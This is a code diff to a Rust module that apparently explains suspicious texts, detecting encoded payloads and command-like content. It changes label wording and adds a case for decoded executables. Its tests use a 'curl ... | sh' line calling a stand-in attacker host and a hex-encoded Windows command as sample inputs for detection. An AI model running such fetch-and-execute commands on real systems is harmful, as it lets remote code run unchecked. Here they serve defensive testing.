@@ -5,9 +5,9 @@
 use std::borrow::Cow;
 
 use crate::escape::one_line;
-use crate::evidence::content;
+use crate::evidence::content::{self, Content};
 use crate::evidence::encoding::Encoding;
-use crate::evidence::payload::{MAX_DECODED_CHARS, Payload, find_payload};
+use crate::evidence::payload::{MAX_DECODED_CHARS, Payload, PayloadContent, find_payload};
 use crate::evidence::record_types::{self, Group, Prefix, RecordType};
 
 /// The description of one text.
@@ -76,7 +76,7 @@ pub fn explain(text: Option<&[u8]>) -> Explanation {
         None => content::executable_kind(&String::from_utf8_lossy(text.get(..MAX_RECORD_BYTES).unwrap_or(text))),
         Some(_) => None,
     };
-    let reason = reason + &command.map(|kind| format!("; reads as {}", kind.name())).unwrap_or_default();
+    let reason = reason + &command.map(|kind| format!("; looks like {}", kind.with_article())).unwrap_or_default();
     let decoded = match (&payload, content) {
         (None, _) => String::new(),
         (Some(payload), Some(content)) => one_line(&format!("{content}: {}", payload.decoded), MAX_DECODED_CHARS),
@@ -97,6 +97,7 @@ fn describe_payload(payload: &Payload) -> String {
         encoding => format!("{} characters of {}", payload.characters, encoding.name()),
     };
     match &payload.content {
+        Some(PayloadContent::Plain(Content::Executable(kind))) => format!("{length} that decode to {}", kind.with_article()),
         Some(content) => format!("{length} that decode to {content}"),
         None => length,
     }
@@ -196,8 +197,8 @@ mod tests {
         // Found in review: an attacker chose which of the two was reported.
         assert_eq!(
             of("curl http://evil.example/0c7e3f5219ab4d0e8f435b6a7c8d9e|sh")[1],
-            "text of 58 bytes, no known type; 30 characters of hex; reads as command"
+            "text of 58 bytes, no known type; 30 characters of hex; looks like a command"
         );
-        assert_eq!(of("636d642e657865202f632077686f616d69")[1..3], ["no known type; 34 characters of hex that decode to command", "hex"]);
+        assert_eq!(of("636d642e657865202f632077686f616d69")[1..3], ["no known type; 34 characters of hex that decode to a command", "hex"]);
     }
 }
